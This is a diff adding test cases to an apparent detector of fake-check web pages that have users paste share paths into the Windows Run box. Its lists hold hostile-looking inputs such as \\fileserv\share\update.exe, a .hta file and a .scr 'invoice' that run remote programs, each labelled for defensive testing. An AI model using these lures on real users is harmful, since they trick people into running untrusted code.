@@ -35,6 +35,16 @@ Techniques:
   is (the act's clearing used to read the whole text). Look-alikes: every setting harmless
   (a local resolver on one interface and a public one on another, an ad blocker's 0.0.0.0
   and a local test entry, a debugging proxy and the office's), quiet as before.
+- `share-program-from-page`: a web page writing the path of a program, script or shortcut on
+  another computer's share into the Run box or Explorer's address bar (`\\\\fileserv\\share\\update.exe`,
+  a quoted path, `file://fileserv/share/x.hta`; one-word host, dotted name): the SMB form of the
+  fake check (its WebDAV and address forms were blocked already). Blocked from a page dressed up
+  as a check or a company, a warning from any other page. Look-alikes: a plain folder or a
+  document on the same share from an intranet page (a path, quiet), the same program typed with
+  no page, a page on the local network (http://intranet/…) or a page whose own domain names the
+  share (wiki.contoso.com and \\\\deploy.contoso.com\\apps) handing out its own program. Decided:
+  a company wiki on a public name handing out `\\\\deploy01\\…\\x.exe` is a warning (it cannot be
+  told from a stranger's page).
 """
 
 from __future__ import annotations
@@ -303,6 +313,50 @@ for text, platform in HARMLESS_REDIRECTS:
         "https://wiki.contoso.com/it/network",
     )
     add("redirect-per-setting", text, "not_flagged", platform, "terminal")
+
+# ---- share-program-from-page ------------------------------------------------------------------
+CHECK_PAGE = "https://verify-human.example/captcha"
+SHOP_PAGE = "https://deals.coupon-corner.example/today"
+SHARE_PROGRAMS = [
+    (r"\\fileserv\share\update.exe", "run_dialog", CHECK_PAGE, "malicious"),
+    (r"\\fileserv\public\verify.hta", "run_dialog", CHECK_PAGE, "malicious"),
+    (r'"\\fileserv\share\Verify Identity.exe"', "run_dialog", CHECK_PAGE, "malicious"),
+    (r"\\fileserv\x\run.bat", "explorer_bar", CHECK_PAGE, "malicious"),
+    (r"\\files.cdn-mirror.example\s\Update.lnk", "run_dialog", CHECK_PAGE, "malicious"),
+    ("file://fileserv/share/fix.hta", "explorer_bar", CHECK_PAGE, "malicious"),
+    (
+        r"\\docs-review\public\Invoice.scr",
+        "run_dialog",
+        "https://secure-docs.example/view",
+        "flagged",
+    ),
+    (r"\\fileserv\share\setup.msi", "run_dialog", SHOP_PAGE, "suspicious"),
+    (r"\\fileserv\tools\cleanup.cmd", "explorer_bar", SHOP_PAGE, "suspicious"),
+    # decided: a company wiki on a public name cannot be told from a stranger's page
+    (
+        r"\\deploy01\software\7zip\7z2301-x64.exe",
+        "run_dialog",
+        "https://wiki.contoso.com/it/software",
+        "suspicious",
+    ),
+]
+for text, target, page, expect in SHARE_PROGRAMS:
+    add("share-program-from-page", text, expect, "windows", target, page)
+
+SHARE_QUIET = [
+    (r"\\fileserv\public", "run_dialog", "https://wiki.contoso.com/it/shares"),
+    (r"\\fileserv\public\Handbook", "explorer_bar", "https://wiki.contoso.com/it/shares"),
+    (r"\\deploy01\software" + "\\", "explorer_bar", "https://wiki.contoso.com/it/shares"),
+    (r"\\fileserv\public\handbook.pdf", "run_dialog", "https://wiki.contoso.com/it/shares"),
+    (r"\\fileserv\templates\report.docx", "run_dialog", "https://wiki.contoso.com/it/shares"),
+    (r"\\fileserv\share\update.exe", "run_dialog", None),
+    (r"\\deploy01\software\7zip\7z2301-x64.exe", "run_dialog", "http://intranet/it/software"),
+    (r"\\deploy01\software\vpn\setup.msi", "run_dialog", "https://wiki.corp/it/vpn"),
+    (r"\\deploy.contoso.com\apps\vpn\setup.exe", "run_dialog", "https://wiki.contoso.com/it/vpn"),
+    (r"\\fileserv\share\update.exe", "run_dialog", "https://10.20.0.5/kb/42"),
+]
+for text, target, page in SHARE_QUIET:
+    add("share-program-from-page", text, "not_flagged", "windows", target, page)
 
 CASES = book.cases
 
